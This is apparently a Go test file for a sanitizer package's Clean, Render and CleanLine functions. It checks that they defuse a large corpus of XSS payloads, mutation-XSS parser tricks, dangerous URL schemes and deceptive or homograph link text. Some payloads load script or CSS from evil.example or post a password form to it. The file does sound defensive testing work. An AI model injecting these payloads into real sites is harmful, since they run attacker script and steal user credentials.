package text

import (
	"fmt"
	"html"
	"strings"
	"testing"
)

// The hostile corpus is every payload in every wrapping: what runs a script, and what changes how a parser reads it.
var (
	payloads = []string{
		`<script>alert(1)</script>`, `<script src=//evil.example></script>`, `<ScRiPt >alert(1)</sCrIpT>`, `<script/x>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`, `<img src="x" onerror='alert(1)' alt="<b>">`, `<img/src=x/onerror=alert(1)//`, `<image href=x onerror=alert(1)>`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><foreignObject><body onload=alert(1)></foreignObject></svg>`,
		`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
		`<math href="javascript:alert(1)">x</math>`, `<body onload=alert(1)>`, `<iframe src="javascript:alert(1)">`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<object data="javascript:alert(1)">`, `<embed src="data:text/html,<script>alert(1)</script>">`, `<base href="javascript:/">`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<style>@import '//evil.example'</style>`,
		`<p style="background:url(javascript:alert(1))">x</p>`, `<p class="govuk-button" id="content" name="body">x</p>`, `<form action=//evil.example><input name=password><button>Sign in</button></form>`,
		`<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<video src=x onerror=alert(1)>`,
		`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`,
		`<a href="javascript:alert(1)">x</a>`, `<a onmouseover=alert(1) href="https://a.example/">x</a>`, `<a href="https://a.example/" target=_blank style=position:fixed>x</a>`,
		`<div hx-get="/admin" hx-trigger="load">x</div>`, `<a href="https://a.example/" hx-post="/settings" data-hx-get="/x">x</a>`, `<p is="x-y" slot=z part=q>x</p>`,
		`<table background="javascript:alert(1)"><td background="javascript:alert(1)">x`, `<bgsound src="javascript:alert(1)">`, `<portal src=//evil.example>`,
		// Markup that changes its meaning between two readings.
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math><mi><style><img src=x onerror=alert(1)>`,
		`<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>`, `<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`,
		`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<title><p title="</title><img src=x onerror=alert(1)>">`, `<textarea><p title="</textarea><img src=x onerror=alert(1)>">`,
		`<template><style></template><img src=x onerror=alert(1)></style>`, `<select><style></select><img src=x onerror=alert(1)></style>`,
		`<!--><img src=x onerror=alert(1)>-->`, `<!--!><img src=x onerror=alert(1)>--!>`, `<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;`,
		`<?xml version="1.0"?><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`, `<b <script>alert(1)</script>`, `</p/onclick=alert(1)>`, `<<script>alert(1)//<</script>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `&#60;script&#62;alert(1)`, `"><script>alert(1)</script>`, `' onmouseover='alert(1)`, "<img src=`x` onerror=alert(1)>",
		"<scr\x00ipt>alert(1)</scr\x00ipt>", "<img src=x\x00 onerror=alert(1)>", "<a href=\"java\x00script:alert(1)\">x</a>", "\xff<script>alert(1)</script>", "<img\x0csrc=x\x0conerror=alert(1)>",
		"{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= system('x') %>",
	}
	wrappings = []string{
		"%s", "<p>%s</p>", "<b>%s", "<table><tr><td>%s</td></tr></table>", "<table>%s", "<ul><li>%s</ul>", `<a href="https://a.example/">%s</a>`,
		`<p title="%s">x</p>`, `<img alt="%s" src="https://a.example/x">`, `<a href="https://a.example/%s">x</a>`, `<a href="%s">x</a>`, "<math>%s</math>",
		"<svg>%s</svg>", "<template>%s</template>", "<noscript>%s</noscript>", "<pre><code>%s</code></pre>", "<!-- %s -->", "<select><option>%s", "</p></div>%s",
	}
)

func TestX01_NoPayloadInAnyWrappingLeavesMoreThanPlainMarkup(t *testing.T) {
	cases := 0
	for _, wrapping := range wrappings {
		for _, payload := range payloads {
			foreign := fmt.Sprintf(wrapping, payload)
			clean := Clean(foreign)
			check(t, clean.String())
			if again := Clean(clean.String()); again != clean {
				t.Fatalf("Clean(%q) is not the same when cleaned again: %q, %q", foreign, clean, again)
			}
			check(t, Render(foreign, north{}).HTML.String())
			check(t, Render("> - "+foreign+"\n\n["+foreign+"](/x \""+foreign+"\") ![](/media/"+foreign+")", north{}).HTML.String())
			cases++
		}
	}
	if cases < 500 {
		t.Fatalf("only %d cases", cases)
	}
}

func TestX01_EscapedMarkupStaysText(t *testing.T) {
	for _, payload := range payloads {
		payload = strings.ToValidUTF8(strings.ReplaceAll(payload, "\x00", ""), "")
		clean := Clean("<p>" + html.EscapeString(payload) + "</p>").String()
		check(t, clean)
		if strings.Count(clean, "<") != 2 {
			t.Errorf("%q became tags: %q", payload, clean)
		}
	}
}

func TestX01_ForeignLinesAreText(t *testing.T) {
	for _, payload := range payloads {
		line := CleanLine(payload+"\n"+payload, 100)
		if strings.ContainsAny(line, "\n\r\x00") || len([]rune(line)) > 100 {
			t.Errorf("CleanLine(%q) = %q", payload, line)
		}
	}
}

func TestX02_OnlyAddressesOfTheWebAreLinks(t *testing.T) {
	schemes := []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
		"&#106;avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#x3a;alert(1)", "data:text/html,<script>alert(1)</script>",
		"data:image/svg+xml;base64,AAAA", "vbscript:msgbox(1)", "//evil.example/", `\\evil.example\x`, `/\evil.example`, "/path", "?query", "#part",
		"file:///etc/passwd", "ftp://a.example/", "blob:https://a.example/x", "view-source:https://a.example/", "intent://a.example/#Intent;end",
		"https:evil.example", "https:/evil.example", "https:///evil.example", "https://", "http://user:pass@evil.example/", "https://good.example@evil.example/",
		`https://good.example\@evil.example/`, "https://good.example%2f@evil.example", "https://a b.example/", "https://[::1", "https://a.example:99999999/",
		"https://a..example/", "https://.example/", "https://exa\u202emple.example/", "https://a.example/\u0000", "tel:123", "sms:123", "xmpp:a@b.example",
		"ssh://a.example", "ws://a.example", "jar:https://a.example!/x", "about:blank", "livescript:x", "mocha:x", "feed:https://a.example", "mailto:a@b.example",
	}
	for _, address := range schemes {
		for _, markup := range []string{`<a href="%s">words</a>`, `<a href='%s'>words</a>`, `<img src="%s" alt="words">`} {
			clean := Clean(fmt.Sprintf(markup, address)).String()
			check(t, clean)
			if strings.Contains(clean, "<a") {
				t.Errorf("%q is a link: %s", address, clean)
			}
			if !strings.Contains(clean, "words") {
				t.Errorf("%q: the words are lost: %s", address, clean)
			}
		}
		for _, markdown := range []string{"[words](%s)", "[words](<%s>)", "<%s>", "[words][a]\n\n[a]: %s", "![words](%s)"} {
			check(t, Render(fmt.Sprintf(markdown, address), north{}).HTML.String())
		}
	}
}

func TestX02_AddressesAreBroughtIntoOneForm(t *testing.T) {
	for foreign, want := range map[string]string{
		" https://A.Example/x ":         "https://a.example/x",
		"HTTPS://a.example":             "https://a.example",
		"https://a.example./":           "https://a.example/",
		"http://127.0.0.1:8001/c/x":     "http://127.0.0.1:8001/c/x",
		"http://[::1]:8001/":            "http://[::1]:8001/",
		"https://bücher.example/ä?ö=ü":  "https://xn--bcher-kva.example/%C3%A4?%C3%B6=%C3%BC",
		"https://a.example/?q=<x y>'\"": "https://a.example/?q=%3Cx%20y%3E%27%22",
		"https://a.example/a(b)/#c%20d": "https://a.example/a(b)/#c%20d",
	} {
		got, ok := source{}.address(foreign)
		if !ok || got != want {
			t.Errorf("%q became %q (%v), want %q", foreign, got, ok, want)
		}
		if again, ok := (source{}).address(got); !ok || again != got {
			t.Errorf("%q became %q when checked again", got, again)
		}
	}
	if _, ok := (source{}).address("https://a.example/" + strings.Repeat("x", MaxAddress)); ok {
		t.Error("an address of more than MaxAddress is a link")
	}
	if _, ok := (source{}).address("https://a.example/" + strings.Repeat("ä", MaxAddress/3)); ok {
		t.Error("an address that becomes longer than MaxAddress is a link")
	}
}

func TestX04_BrokenMarkupLosesNoWordsAndLeaksNoTags(t *testing.T) {
	for _, broken := range []string{
		"words", "<p>words", "words</p></div></body></html>", "<b><i>words</b></i>", "<math>words", "<template>words", "<svg>words", "<select>words",
		"<table>words", "<table><tr>words", "<tr><td>words", "<ul>words", "<li>words", "<ol><li>words<ol>", "<a href=https://a.example/>words", "<p><p><p>words",
		"<blockquote><blockquote>words</p>", "<ruby>words<rt>x", "<rt>words", "<pre>\n\nwords", "<h1><h2>words</h1>", "<p><ul><li></p>words", "<b><p>words</b></p>",
		"<annotation-xml encoding=text/html>words", "<math><annotation-xml>words", "<frameset>words", "<col>words", "<caption>words", "<nobr><nobr>words", "<button><button>words",
		"<font><table><font>words", "<a href=https://a.example/><table><a href=https://b.example/>words", "</br>words", "<>words", "</>words", "<p =>words", "\x00words",
	} {
		for _, after := range []string{"", "</b>", "</p></p>", "</table>", "</math>", "</a></b></i>"} {
			clean := Clean(broken + after)
			check(t, clean.String())
			if !strings.Contains(clean.Plain(), "words") {
				t.Errorf("%q lost its words: %q", broken+after, clean)
			}
		}
	}
}

func TestX05_ALinkThatNamesAnotherHostShowsTheRealOne(t *testing.T) {
	const real = "https://evil.example/login"
	for words, told := range map[string]bool{
		"nhs.example": true, "https://nhs.example": true, "HTTPS://NHS.EXAMPLE/login": true, "www.nhs.example": true, "Go to nhs.example now": true,
		"(nhs.example)": true, "n<b>hs.exa</b>mple": true, "nhs.example/evil.example": true, "https://nhs.example@evil.example/": true,
		"nhs\u200b.example": true, "nhs。example": true, "nhs．example": true, "nhs.example∕login": true, "evil.example nhs.example": true,
		"//nhs.example/": true, `\\nhs.example`: true, "192.0.2.1": true, "http://intranet": true, "nhs.example [other.example]": true,
		"еvil.example": true, "@ceo@nhs.example": true, "xn--nhs-hoa.example": true, "evil.example.nhs.example": true,

		"evil.example": false, "EVIL.example/login": false, "www.evil.example": false, "https://evil.example:8443/x": false, "click here": false,
		"e.g. this": false, "version 1.2": false, "report.pdf": false, "Mr. Smith": false, "nhs.example [evil.example]": false, "10.30": false,
		"@ceo": false, "3.5.1.2.4": false, "": false,
	} {
		clean := Clean(`<p><a href="` + real + `">` + words + `</a>.</p>`).String()
		check(t, clean)
		if tells := strings.Contains(clean, " [evil.example]</a>"); tells != told && words != "nhs.example [evil.example]" {
			t.Errorf("%q: tells the real host: %v, in %s", words, tells, clean)
		}
		if strings.Count(clean, "[evil.example]") > 1 {
			t.Errorf("%q: told twice: %s", words, clean)
		}
	}
}

func TestX05_AHostInLettersThatLookLikeOthersShowsItsRealForm(t *testing.T) {
	clean := Clean(`<a href="https://аррӏе.example/">аррӏе.example</a>`).String()
	if !strings.Contains(clean, "[xn--") {
		t.Errorf("a host in Cyrillic that looks Latin: %s", clean)
	}
	clean = Clean(`<a href="https://bücher.example/">bücher.example</a>`).String()
	if strings.Contains(clean, "[") {
		t.Errorf("an honest international host: %s", clean)
	}
}

func TestX05_MentionsFromHereAreNotDoubted(t *testing.T) {
	elsewhere := Render("@jo_b@south.example:8443 and [nhs.example](mailto:a@evil.example)", north{}).HTML.String()
	if strings.Contains(elsewhere, "[south.example]") || !strings.Contains(elsewhere, "nhs.example [evil.example]") {
		t.Error(elsewhere)
	}
}
